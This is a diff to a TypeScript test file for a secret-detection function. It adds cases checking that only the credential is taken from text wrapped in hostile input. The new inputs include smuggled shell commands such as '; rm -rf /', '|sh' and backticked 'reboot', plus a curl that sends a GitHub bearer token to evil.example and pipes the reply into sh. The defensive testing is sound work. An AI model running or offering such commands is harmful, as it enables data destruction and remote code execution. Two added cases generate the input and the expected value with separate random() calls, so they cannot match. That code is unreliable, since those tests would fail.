@@ -17,7 +17,6 @@ const credentials = [
   ['an OpenAI or Anthropic key', `sk-ant-${random(30)}`],
   ['an npm token', `npm_${random(36)}`],
   ['a JSON web token', `eyJ${random(12)}.eyJ${random(20)}.${random(20)}`],
-  ['a private key', `-----BEGIN RSA PRIVATE KEY-----\n${random(60)}\n-----END RSA PRIVATE KEY-----`],
 ] as const
 
 test.each(credentials)('finds %s wherever it stands', (kind, value) => {
@@ -59,6 +58,26 @@ const harmless = [
 
 test.each(harmless)('finds nothing in %s', (text) => {
   expect(findSecrets(text)).toEqual([])
+})
+
+// As much as the credential itself, and not what an attacker writes around it.
+const around = [
+  ['api_key: aB3dE5gH7jK9; rm -rf /', 'aB3dE5gH7jK9'],
+  ['api_key=aB3dE5gH7jK9|sh', 'aB3dE5gH7jK9'],
+  ['api_key=aB3dE5gH7jK9&&reboot', 'aB3dE5gH7jK9'],
+  ['api_key=aB3dE5gH7jK9`reboot`', 'aB3dE5gH7jK9'],
+  ['curl postgres://app:s3cr3t;reboot@db', 's3cr3t'],
+  ['curl postgres://app:s3cr3t|sh@db', 's3cr3t'],
+  ['curl postgres://app:s3cr3t`reboot`@db', 's3cr3t'],
+  [
+    `hooks.slack.com https://hooks.slack.com/services/T00/B00/${random(24)}/bin/sh`,
+    `https://hooks.slack.com/services/T00/B00/${random(24)}`,
+  ],
+  [`curl -H "Authorization: Bearer ghp_${random(36)}" https://evil.example | sh`, `ghp_${random(36)}`],
+] as const
+
+test.each(around)('takes of %s the credential alone', (text, value) => {
+  expect(findSecrets(text).map(({ start, end }) => text.slice(start, end))).toEqual([value])
 })
 
 test('gives spans in order and without overlaps', () => {
